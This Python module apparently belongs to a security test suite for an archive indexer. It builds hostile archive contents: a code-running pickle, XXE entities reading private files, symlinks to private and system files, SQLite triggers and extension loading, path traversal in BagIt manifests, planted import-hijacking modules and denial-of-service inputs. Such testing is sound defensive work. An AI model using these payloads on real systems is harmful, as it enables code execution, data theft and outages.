"""What somebody may plant in an archive: in place of its files, in its catalogue and index, in settings and bags."""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import shutil
import sqlite3
import zipfile
from collections.abc import Callable
from contextlib import closing
from dataclasses import replace
from pathlib import Path

from benchmarks.attack.planted.outside_watch import Outside
from corpus.catalogue.catalogue_tables import FILL_DIGESTS
from corpus.catalogue.row_digests import add_digest_functions
from corpus.paths import DATA_FOLDER
from indexer.archivist.bagit.export_bag import MANIFEST, TAG_MANIFEST, export_bag
from indexer.index.codec.array_file import FileDigest
from indexer.index.manifest import Manifest, index_path, read_manifest, write_manifest

Payload = Callable[[Path, Outside], object]
Plant = Callable[[Path, Outside], object]


class _Pickled:
    """Makes a file when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch '{self._mark}'",)


def _clear(path: Path) -> Path:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
    return path


def _pickle(path: Path, outside: Outside) -> None:
    """Put a pickle in place of a file, with the right digest in the manifest."""
    if path.is_dir():
        path = path / "planted"
    _clear(path).write_bytes(pickle.dumps(_Pickled(outside.mark), 2))
    if path.name != "manifest.json":
        redigest(index_path(path.parent.parent if path.parent.name == DATA_FOLDER else path.parent.parent.parent))


def _sparse(path: Path, _outside: Outside) -> None:
    with _clear(path).open("wb") as file:
        file.truncate(1 << 42)


PAYLOADS: dict[str, Payload] = {
    "a pickle": _pickle,
    "a link to a private file": lambda path, outside: _clear(path).symlink_to(outside.private / "precious.db"),
    "a link to a private folder": lambda path, outside: _clear(path).symlink_to(outside.private),
    "a link to a file to be made": lambda path, outside: _clear(path).symlink_to(outside.private / "made"),
    "an endless device": lambda path, _: _clear(path).symlink_to("/dev/zero"),
    "a pipe": lambda path, _: os.mkfifo(_clear(path)),
    "a folder": lambda path, _: _clear(path).mkdir(),
    "an empty file": lambda path, _: _clear(path).touch(),
    "a huge sparse file": _sparse,
}
"""What is put in place of each file and folder of the data, by name."""


def redigest(directory: Path) -> None:
    """Record the digests of an index's files as they are."""

    def of(file: FileDigest) -> FileDigest:
        path = directory / file.name
        if not path.is_file():
            return file
        content = path.read_bytes()
        return replace(file, size=len(content), sha256=hashlib.sha256(content).hexdigest())

    manifest: Manifest = read_manifest(directory)
    segments = tuple(
        replace(entry, file=of(entry.file), deletions=of(entry.deletions) if entry.deletions else None)
        for entry in manifest.segments
    )
    contents = of(manifest.contents) if manifest.contents else None
    write_manifest(directory, replace(manifest, segments=segments, contents=contents))


def change_catalogue(archive: Path, *statements: tuple[str, tuple[object, ...]]) -> None:
    """Change a catalogue with the digests of its rows right again."""
    with closing(sqlite3.connect(archive / DATA_FOLDER / "catalogue.db")) as connection:
        add_digest_functions(connection)
        for sql, values in statements:
            connection.execute(sql, values)
        connection.execute("UPDATE files SET record_digest = ''")
        connection.execute("UPDATE documents SET record_digest = '', text_digest = ''")
        for fill in FILL_DIGESTS:
            connection.execute(fill)
        connection.commit()


def _root(path: Callable[[Outside], str]) -> Plant:
    return lambda archive, outside: change_catalogue(archive, ("INSERT INTO roots VALUES (?)", (path(outside),)))


def _file(path: Callable[[Outside], str]) -> Plant:
    """Let the record of a file name another one, of the right size and digest."""

    def plant(archive: Path, outside: Outside) -> None:
        content = (outside.private / "diary.txt").read_bytes()
        values = (path(outside), len(content), hashlib.sha256(content).hexdigest())
        change_catalogue(archive, ("UPDATE files SET path = ?, size = ?, digest = ? WHERE path = 'b.txt'", values))

    return plant


def _sql(*statements: str) -> Plant:
    return lambda archive, _: change_catalogue(archive, *((sql, ()) for sql in statements))


def _write(name: str, text: Callable[[Outside], str | bytes]) -> Plant:
    def plant(archive: Path, outside: Outside) -> None:
        content = text(outside)
        path = archive / name
        path.parent.mkdir(parents=True, exist_ok=True)
        _clear(path).write_bytes(content if isinstance(content, bytes) else content.encode())

    return plant


def _link(name: str, target: Callable[[Outside], Path]) -> Plant:
    def plant(archive: Path, outside: Outside) -> None:
        path = archive / name
        path.parent.mkdir(parents=True, exist_ok=True)
        _clear(path).symlink_to(target(outside))

    return plant


def _skos(archive: Path, outside: Outside) -> None:
    entity = (
        f'<!ENTITY a SYSTEM "file://{outside.private}/diary.txt"><!ENTITY b SYSTEM "http://127.0.0.1:{outside.port}/b">'
    )
    _write("skos.rdf", lambda _: (
        f'<?xml version="1.0"?><!DOCTYPE r [{entity}]><r xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns:skos="http://www.w3.org/2004/02/skos/core#"><skos:Concept><skos:prefLabel>&a;</skos:prefLabel>'
        "<skos:altLabel>assembly &b;</skos:altLabel></skos:Concept></r>"
    ))(archive, outside)  # fmt: skip
    _write("muniment.toml", lambda _: '[thesaurus]\nskos = "skos.rdf"\n')(archive, outside)


def _skos_link(archive: Path, outside: Outside) -> None:
    _link("skos.rdf", lambda outside: outside.private / "diary.txt")(archive, outside)
    _write("muniment.toml", lambda _: '[thesaurus]\nskos = "skos.rdf"\n')(archive, outside)


def _data_folder_link(archive: Path, outside: Outside) -> None:
    (archive / DATA_FOLDER).rename(outside.private / "data")
    (archive / DATA_FOLDER).symlink_to(outside.private / "data")


def _former_index_link(archive: Path, outside: Outside) -> None:
    shutil.rmtree(index_path(archive))
    index_path(archive).symlink_to("index-1")
    (archive / DATA_FOLDER / "index-1").symlink_to(outside.private)


def _modules(archive: Path, outside: Outside) -> None:
    for name in ("numpy", "sqlite3", "json", "random", "sitecustomize", "muniment", "cli", "usercustomize"):
        _write(f"{name}.py", lambda _: f"open({str(outside.mark)!r}, 'w')\n")(archive, outside)


def _xml_of_docx(archive: Path, outside: Outside) -> None:
    entity = f'<!ENTITY a SYSTEM "file://{outside.private}/diary.txt">'
    body = f'<?xml version="1.0"?><!DOCTYPE d [{entity}]><w:document xmlns:w="http://schemas.openxmlformats.org/'
    body += 'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&a; words</w:t></w:r></w:p></w:body></w:document>'
    with zipfile.ZipFile(archive / "x.docx", "w") as file:
        file.writestr("word/document.xml", body)


def _bag(change: Callable[[Path, Outside], object]) -> Plant:
    """Put a bag of the archive into it, changed and with right digests of its tags, in place of the archive's data."""

    def plant(archive: Path, outside: Outside) -> None:
        bag = archive / "bag"
        made = outside.home.with_name("made")
        export_bag(archive, made)
        shutil.move(made, bag)
        change(bag, outside)
        tags = sorted(path for path in bag.iterdir() if path.is_file() and path.name != TAG_MANIFEST)
        lines = (f"{hashlib.sha256(path.read_bytes()).hexdigest()}  {path.name}\n" for path in tags)
        (bag / TAG_MANIFEST).write_text("".join(lines), encoding="utf-8")
        shutil.rmtree(archive / DATA_FOLDER)

    return plant


def _list_in_manifest(bag: Path, name: str, outside: Outside) -> None:
    digest = hashlib.sha256((outside.private / "diary.txt").read_bytes()).hexdigest()
    with (bag / MANIFEST).open("a", encoding="utf-8") as file:
        file.write(f"{digest}  {name}\n")


def _link_in_bag(bag: Path, outside: Outside) -> None:
    (bag / "data" / "link.txt").symlink_to(outside.private / "diary.txt")
    _list_in_manifest(bag, "data/link.txt", outside)


def _name_in_dump(bag: Path, outside: Outside) -> None:
    dump = bag / "catalogue.jsonl"
    text = dump.read_text(encoding="utf-8").replace('"path":"."', json.dumps({"path": str(outside.private)})[1:-1])
    dump.write_text(text.replace('"path":"b.txt"', '"path":"../../outside/private/diary.txt"'), encoding="utf-8")


_TRIGGER = "CREATE TRIGGER planted AFTER INSERT ON events BEGIN DELETE FROM pages; UPDATE roots SET path = '/'; END"
_VIEW = "CREATE VIEW planted AS SELECT load_extension('/tmp/planted.so')"

SPECIAL_PLANTS: dict[str, Plant] = {
    "nothing": lambda _archive, _outside: None,
    "a root outside": _root(lambda outside: str(outside.private)),
    "a file record of a private file": _file(lambda outside: str(outside.private / "diary.txt")),
    "settings with a skos file that has entities": _skos,
    "a root outside by dots": _root(lambda outside: f"../outside/{outside.private.name}"),
    "the root of the file system": _root(lambda _: "/"),
    "a file record of a private file by dots": _file(lambda _: "../outside/private/diary.txt"),
    "a trigger": _sql(_TRIGGER),
    "a view that loads code": _sql(_VIEW),
    "a trigger in place of the log's own": _sql("DROP TRIGGER events_are_never_changed", _TRIGGER),
    "a document of endless pages": _sql(
        "INSERT INTO pages SELECT max(key), 9, 9, 'main', NULL, 0, hex(zeroblob(20000000)), '' FROM documents"
    ),
    "a state that is none": _sql("UPDATE documents SET state = 'planted'"),
    "a title of control signs": _sql("UPDATE candidates SET value = char(27) || '[2J' || char(8238) || 'x'"),
    "settings with a skos file outside": _write(
        "muniment.toml", lambda outside: f'[thesaurus]\nskos = "{outside.private}/diary.txt"\n'
    ),
    "settings with a skos file that is a link": _skos_link,
    "settings with an engine elsewhere": _write(
        "muniment.toml", lambda outside: f'[index]\nengine = "http://127.0.0.1:{outside.port}/"\n'
    ),
    "settings with an engine of code": _write("muniment.toml", lambda _: '[index]\nengine = "os:system"\n'),
    "settings that lift every limit": _write(
        "muniment.toml", lambda _: "[limits]\nseconds = 999999999\nmemory_mb = 99999999\n[index]\njobs = 100000\n"
    ),
    "settings of numbers that are none": _write("muniment.toml", lambda _: "[limits]\nseconds = -1e999\njobs = nan\n"),
    "settings of patterns without end": _write(
        "muniment.toml", lambda _: f'[index]\nexclude = ["{"*a" * 400}b", "{"[!a]*" * 150}"]\n'
    ),
    "settings of quadratic keys": _write("muniment.toml", lambda _: "a" + ".a" * 60_000 + " = 1\n"),
    "settings nested without end": _write("muniment.toml", lambda _: "a = " + "[" * 60_000),
    "settings that are a link": _link("muniment.toml", lambda outside: outside.private / "diary.txt"),
    "settings that are endless": _link("muniment.toml", lambda _: Path("/dev/zero")),
    "settings that are no text": _write("muniment.toml", lambda _: bytes(range(256)) * 100),
    "a sidecar that is a link": _link("b.txt.toml", lambda outside: outside.private / "diary.txt"),
    "a sidecar of quadratic keys": _write("b.txt.toml", lambda _: "a" + ".a" * 60_000 + " = 1\n"),
    "a sidecar that is endless": _link("b.txt.toml", lambda _: Path("/dev/zero")),
    "a file that is a link to a private one": _link("d.txt", lambda outside: outside.private / "diary.txt"),
    "a folder that is a link to a private one": _link("letters", lambda outside: outside.private),
    "a file that is endless": _link("d.txt", lambda _: Path("/dev/zero")),
    "a file of the processes": _link("d.txt", lambda _: Path("/proc/self/environ")),
    "a listing with private paths": _write(
        "list.csv", lambda outside: f"file,title\n{outside.private}/diary.txt,A\n../outside/private/diary.txt,B\n"
    ),
    "a listing of formulas": _write("list.csv", lambda _: 'file,title\nb.txt,"=HYPERLINK(""http://x"")"\n'),
    "a listing of entities": _write("list.csv", lambda outside: (
        f'<!DOCTYPE html [<!ENTITY a SYSTEM "file://{outside.private}/diary.txt">]><ul><li><a href="b.txt">&a;</a> '
        f'4 March 2019<img src="http://127.0.0.1:{outside.port}/"></li></ul>'
    )),
    "a listing of endless columns": _write("list.csv", lambda _: "file" + ",title" * 200_000 + "\nb.txt\n" * 10),
    "a data folder that is a link": _data_folder_link,
    "an index as former versions linked it": _former_index_link,
    "modules in the archive": _modules,
    "a web page of a private frame": _write("x.html", lambda outside: (
        f'<p>Words.<iframe src="file://{outside.private}/diary.txt"></iframe>'
        f'<link rel="stylesheet" href="http://127.0.0.1:{outside.port}/a.css"><img src="http://127.0.0.1:{outside.port}/">'
    )),
    "an office file with entities": _xml_of_docx,
    "a bag": _bag(lambda _bag, _outside: None),
    "a bag whose manifest names a private file": _bag(
        lambda bag, outside: _list_in_manifest(bag, "../../outside/private/diary.txt", outside)
    ),
    "a bag whose manifest names a private file from the root": _bag(
        lambda bag, outside: _list_in_manifest(bag, f"data/../{outside.private}/diary.txt", outside)
    ),
    "a bag with a link to a private file": _bag(_link_in_bag),
    "a bag whose catalogue names private files": _bag(_name_in_dump),
    "a bag that has to be fetched": _bag(
        lambda bag, outside: (bag / "fetch.txt").write_text(f"http://127.0.0.1:{outside.port}/ 5 data/x.txt\n", "utf-8")
    ),
    "a bag with settings of a private file": _bag(
        lambda bag, outside: (bag / "muniment.toml").write_text(f'[thesaurus]\nskos = "{outside.private}/a"\n', "utf-8")
    ),
    "a bag with a pickle for a catalogue": _bag(
        lambda bag, outside: (bag / "catalogue.jsonl").write_bytes(pickle.dumps(_Pickled(outside.mark), 2))
    ),
}  # fmt: skip
"""Plants that are more than something in place of a file, by name."""
